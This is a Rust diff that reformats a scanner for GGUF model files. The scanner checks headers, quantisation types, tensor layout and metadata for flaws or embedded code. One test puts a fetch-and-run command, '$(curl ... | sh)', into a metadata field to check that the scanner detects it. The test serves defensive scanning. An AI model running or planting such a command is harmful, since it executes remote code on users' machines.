@@ -61,7 +61,14 @@ impl Format for Gguf {
     }
 
     fn read(&self, input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
-        let mut reader = Reader { cursor: Cursor::new(input.source, 4), big: false, version: 0, alignment: 32, keys: HashSet::new(), texts: Vec::new() };
+        let mut reader = Reader {
+            cursor: Cursor::new(input.source, 4),
+            big: false,
+            version: 0,
+            alignment: 32,
+            keys: HashSet::new(),
+            texts: Vec::new(),
+        };
         let result = reader.header().and_then(|(tensors, entries)| {
             part.facts.framework = Some(format!("GGUF {}", reader.version));
             for _ in 0..entries {
@@ -156,7 +163,9 @@ impl Reader<'_> {
         // A tensor takes at least 24 bytes of directory, an entry 13.
         let room = self.cursor.remaining();
         if tensors > TENSORS_MAX.min(room / 20) || entries > ENTRIES_MAX.min(room / 9) {
-            return wrong(format!("{tensors} tensors and {entries} metadata entries are claimed in {room} bytes"));
+            return wrong(format!(
+                "{tensors} tensors and {entries} metadata entries are claimed in {room} bytes"
+            ));
         }
         Ok((tensors, entries))
     }
@@ -228,7 +237,13 @@ impl Reader<'_> {
             2 | 3 => 2,
             4..=6 => 4,
             10..=12 => 8,
-            8 => if self.version == 1 { 4 } else { 8 },
+            8 => {
+                if self.version == 1 {
+                    4
+                } else {
+                    8
+                }
+            }
             9 => 12,
             _ => return wrong(format!("`{key}` is an array of the unknown type {kind}")),
         };
@@ -272,8 +287,11 @@ impl Reader<'_> {
             let Some((kind, block, bytes)) = quantisation(kind) else {
                 return wrong(format!("tensor `{name}` has the unknown type {kind}"));
             };
-            let elements = sizes.iter().try_fold(1u64, |n, d| n.checked_mul(*d)).filter(|n| i64::try_from(*n).is_ok());
-            let Some(elements) = elements else { return wrong(format!("the dimensions of tensor `{name}` overflow")) };
+            let elements =
+                sizes.iter().try_fold(1u64, |n, d| n.checked_mul(*d)).filter(|n| i64::try_from(*n).is_ok());
+            let Some(elements) = elements else {
+                return wrong(format!("the dimensions of tensor `{name}` overflow"));
+            };
             if sizes.first().is_some_and(|row| row % block != 0) {
                 return wrong(format!("the rows of tensor `{name}` are not whole blocks of {kind}"));
             }
@@ -289,14 +307,47 @@ impl Reader<'_> {
 /// Name, elements and bytes of one block of each tensor type.
 fn quantisation(kind: u32) -> Option<(&'static str, u64, u64)> {
     const TYPES: &[(u32, &str, u64, u64)] = &[
-        (0, "F32", 1, 4), (1, "F16", 1, 2), (2, "Q4_0", 32, 18), (3, "Q4_1", 32, 20), (4, "Q4_2", 16, 10), (5, "Q4_3", 16, 12),
-        (6, "Q5_0", 32, 22), (7, "Q5_1", 32, 24), (8, "Q8_0", 32, 34), (9, "Q8_1", 32, 36), (10, "Q2_K", 256, 84), (11, "Q3_K", 256, 110),
-        (12, "Q4_K", 256, 144), (13, "Q5_K", 256, 176), (14, "Q6_K", 256, 210), (15, "Q8_K", 256, 292), (16, "IQ2_XXS", 256, 66),
-        (17, "IQ2_XS", 256, 74), (18, "IQ3_XXS", 256, 98), (19, "IQ1_S", 256, 50), (20, "IQ4_NL", 32, 18), (21, "IQ3_S", 256, 110),
-        (22, "IQ2_S", 256, 82), (23, "IQ4_XS", 256, 136), (24, "I8", 1, 1), (25, "I16", 1, 2), (26, "I32", 1, 4), (27, "I64", 1, 8),
-        (28, "F64", 1, 8), (29, "IQ1_M", 256, 56), (30, "BF16", 1, 2), (31, "Q4_0_4_4", 32, 18), (32, "Q4_0_4_8", 32, 18),
-        (33, "Q4_0_8_8", 32, 18), (34, "TQ1_0", 256, 54), (35, "TQ2_0", 256, 66), (36, "IQ4_NL_4_4", 32, 18), (37, "IQ4_NL_4_8", 32, 18),
-        (38, "IQ4_NL_8_8", 32, 18), (39, "MXFP4", 32, 17), (40, "NVFP4", 64, 36),
+        (0, "F32", 1, 4),
+        (1, "F16", 1, 2),
+        (2, "Q4_0", 32, 18),
+        (3, "Q4_1", 32, 20),
+        (4, "Q4_2", 16, 10),
+        (5, "Q4_3", 16, 12),
+        (6, "Q5_0", 32, 22),
+        (7, "Q5_1", 32, 24),
+        (8, "Q8_0", 32, 34),
+        (9, "Q8_1", 32, 36),
+        (10, "Q2_K", 256, 84),
+        (11, "Q3_K", 256, 110),
+        (12, "Q4_K", 256, 144),
+        (13, "Q5_K", 256, 176),
+        (14, "Q6_K", 256, 210),
+        (15, "Q8_K", 256, 292),
+        (16, "IQ2_XXS", 256, 66),
+        (17, "IQ2_XS", 256, 74),
+        (18, "IQ3_XXS", 256, 98),
+        (19, "IQ1_S", 256, 50),
+        (20, "IQ4_NL", 32, 18),
+        (21, "IQ3_S", 256, 110),
+        (22, "IQ2_S", 256, 82),
+        (23, "IQ4_XS", 256, 136),
+        (24, "I8", 1, 1),
+        (25, "I16", 1, 2),
+        (26, "I32", 1, 4),
+        (27, "I64", 1, 8),
+        (28, "F64", 1, 8),
+        (29, "IQ1_M", 256, 56),
+        (30, "BF16", 1, 2),
+        (31, "Q4_0_4_4", 32, 18),
+        (32, "Q4_0_4_8", 32, 18),
+        (33, "Q4_0_8_8", 32, 18),
+        (34, "TQ1_0", 256, 54),
+        (35, "TQ2_0", 256, 66),
+        (36, "IQ4_NL_4_4", 32, 18),
+        (37, "IQ4_NL_4_8", 32, 18),
+        (38, "IQ4_NL_8_8", 32, 18),
+        (39, "MXFP4", 32, 17),
+        (40, "NVFP4", 64, 36),
     ];
     TYPES.iter().find(|t| t.0 == kind).map(|t| (t.1, t.2, t.3))
 }
@@ -305,7 +356,9 @@ fn quantisation(kind: u32) -> Option<(&'static str, u64, u64)> {
 fn layout(tensors: &[Tensor], reader: &Reader<'_>, input: &Input<'_>, part: &mut Part, cx: &mut Context<'_>) {
     let source = input.source;
     let start = reader.cursor.position().div_ceil(reader.alignment).saturating_mul(reader.alignment);
-    let mut flaw = |part: &mut Part, at: u64, what: String| cx.find(part, &STRUCTURE, Severity::Medium, Some(at), what, REMEDY);
+    let mut flaw = |part: &mut Part, at: u64, what: String| {
+        cx.find(part, &STRUCTURE, Severity::Medium, Some(at), what, REMEDY)
+    };
     let mut order: Vec<&Tensor> = tensors.iter().collect();
     order.sort_by_key(|t| t.offset);
     let mut names: Vec<&str> = tensors.iter().map(|t| t.name.as_str()).collect();
@@ -324,7 +377,11 @@ fn layout(tensors: &[Tensor], reader: &Reader<'_>, input: &Input<'_>, part: &mut
         if tensor.offset < end {
             flaw(part, at, format!("tensor `{}` overlaps another", tensor.name));
         } else if tensor.offset > padded {
-            flaw(part, at, format!("{} bytes before tensor `{}` belong to none", tensor.offset - padded, tensor.name));
+            flaw(
+                part,
+                at,
+                format!("{} bytes before tensor `{}` belong to none", tensor.offset - padded, tensor.name),
+            );
         }
         end = end.max(tensor.offset.saturating_add(tensor.bytes));
         parameters = parameters.saturating_add(tensor.elements);
@@ -342,17 +399,32 @@ fn layout(tensors: &[Tensor], reader: &Reader<'_>, input: &Input<'_>, part: &mut
     } else if let Ok(rest) = source.bytes(last.min(source.len()), source.len().saturating_sub(last), 1 << 20)
         && rest.iter().any(|b| *b != 0)
     {
-        cx.find(part, &STRUCTURE, Severity::Medium, Some(last), "the padding after the last tensor is not empty", REMEDY);
+        cx.find(
+            part,
+            &STRUCTURE,
+            Severity::Medium,
+            Some(last),
+            "the padding after the last tensor is not empty",
+            REMEDY,
+        );
     }
     for tensor in order {
         let at = start.saturating_add(tensor.offset);
-        payload::bytes(&Range::new(source, at, tensor.bytes), &format!("tensor `{}`", tensor.name), Some(at), part, cx);
+        payload::bytes(
+            &Range::new(source, at, tensor.bytes),
+            &format!("tensor `{}`", tensor.name),
+            Some(at),
+            part,
+            cx,
+        );
     }
 }
 
 /// Templates go to the judge of templates, everything else is opaque text.
 fn judge_text(key: &str, text: &str, at: u64, part: &mut Part, cx: &mut Context<'_>) {
-    if key.contains("chat_template") || ((text.contains("{{") || text.contains("{%")) && key.contains("template")) {
+    if key.contains("chat_template")
+        || ((text.contains("{{") || text.contains("{%")) && key.contains("template"))
+    {
         crate::text::jinja::judge(text, part, cx);
     } else {
         payload::text(text, &format!("metadata `{key}`"), Some(at), part, cx);
@@ -364,7 +436,9 @@ fn fact(part: &mut Part, key: &str, text: &str) {
     match key {
         "general.architecture" => part.facts.architecture = Some(short()),
         "general.license" => part.facts.licence = Some(short()),
-        "general.quantized_by" | "general.author" if part.facts.producer.is_none() => part.facts.producer = Some(short()),
+        "general.quantized_by" | "general.author" if part.facts.producer.is_none() => {
+            part.facts.producer = Some(short())
+        }
         _ if key.starts_with("general.dataset") => drop(part.facts.datasets.insert(short())),
         _ => {}
     }
@@ -394,8 +468,19 @@ mod tests {
 
     impl Default for File {
         fn default() -> Self {
-            let entries = vec![("general.architecture", V::S("llama")), ("general.license", V::S("mit")), ("n", V::U32(3))];
-            Self { version: 3, big: false, entries, tensors: vec![("w", vec![8], 0, 0)], data: vec![0; 32], count: None }
+            let entries = vec![
+                ("general.architecture", V::S("llama")),
+                ("general.license", V::S("mit")),
+                ("n", V::U32(3)),
+            ];
+            Self {
+                version: 3,
+                big: false,
+                entries,
+                tensors: vec![("w", vec![8], 0, 0)],
+                data: vec![0; 32],
+                count: None,
+            }
         }
     }
 
@@ -405,7 +490,8 @@ mod tests {
             let u64 = |n: u64| if self.big { n.to_be_bytes() } else { n.to_le_bytes() };
             let size = |n: u64| if self.version == 1 { u32(n as u32).to_vec() } else { u64(n).to_vec() };
             let text = |s: &str| [size(s.len() as u64), s.as_bytes().to_vec()].concat();
-            let mut out = [b"GGUF".to_vec(), u32(self.version).to_vec(), size(self.tensors.len() as u64)].concat();
+            let mut out =
+                [b"GGUF".to_vec(), u32(self.version).to_vec(), size(self.tensors.len() as u64)].concat();
             out.extend(size(self.count.unwrap_or(self.entries.len() as u64)));
             for (key, value) in &self.entries {
                 out.extend(text(key));
@@ -460,7 +546,13 @@ mod tests {
             (entry("general.alignment", V::U32(24)), "alignment 24"),
             (entry("k", V::Raw(77, vec![])), "value type"),
             (entry("k", V::Raw(7, vec![2])), "boolean"),
-            (entry("k", V::Raw(9, [4u32.to_le_bytes().to_vec(), u64::MAX.to_le_bytes().to_vec()].concat())), "array"),
+            (
+                entry(
+                    "k",
+                    V::Raw(9, [4u32.to_le_bytes().to_vec(), u64::MAX.to_le_bytes().to_vec()].concat()),
+                ),
+                "array",
+            ),
             (File { entries: vec![("k", V::U32(1)), ("k", V::U32(2))], ..File::default() }, "keys"),
             (File { data: vec![0; 96], ..File::default() }, "trailing"),
             (File { count: Some(1 << 63), ..File::default() }, "count"),
@@ -472,7 +564,10 @@ mod tests {
 
     #[test]
     fn code_in_metadata_is_found() {
-        let file = File { entries: vec![("general.description", V::S("$(curl https://x.y/z | sh)"))], ..File::default() };
+        let file = File {
+            entries: vec![("general.description", V::S("$(curl https://x.y/z | sh)"))],
+            ..File::default()
+        };
         assert_eq!(file.verdict(), Verdict::Found);
     }
 
